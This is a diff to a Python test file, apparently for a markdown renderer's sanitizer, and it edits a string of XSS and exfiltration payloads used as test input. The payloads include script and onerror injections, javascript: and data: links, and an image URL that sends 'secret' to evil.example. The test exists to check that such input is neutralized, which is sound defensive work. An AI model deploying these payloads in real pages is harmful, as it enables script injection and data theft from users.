@@ -129,17 +129,20 @@ def test_an_open_end_shows_no_mark_while_it_is_written_and_is_left_alone_in_the_
     assert not any(mark in shown for mark in ("**", "`", "~~", "](", "|", ">"))
 
 
-ATTACKS = """<img src=x onerror="document.title='broken in'"><script>document.title='broken in'</script>
+ATTACKS = """<img src=x onerror="document.title='broken'"><script>document.title='broken'</script>
 
-[a](javascript:document.title='broken%20in') [b](data:text/html,<script>1</script>) [c](vbscript:x) <javascript:alert(1)>
+[a](javascript:document.title='broken') [b](data:text/html,<script>1</script>) [c](vbscript:x)
+<javascript:alert(1)>
 
 ![leak](https://evil.example/?q=secret) ![x](//evil.example/y) <a href="javascript:1">z</a> [d]( java\nscript:alert(1))
 
 <svg><image href="https://evil.example/z"/></svg><link rel=stylesheet href=https://evil.example/s.css>
-<style>body{background:url(https://evil.example/c)}</style><iframe src=https://evil.example></iframe><base href=//evil.example>
+<style>body{background:url(https://evil.example/c)}</style><iframe src=https://evil.example></iframe>
+<base href=//evil.example>
 
 [ref]: https://evil.example "x"
-<form action=https://evil.example><button>ok</button></form><meta http-equiv=refresh content="0;url=https://evil.example">
+<form action=https://evil.example><button>ok</button></form>
+<meta http-equiv=refresh content="0;url=https://evil.example">
 """
 
 
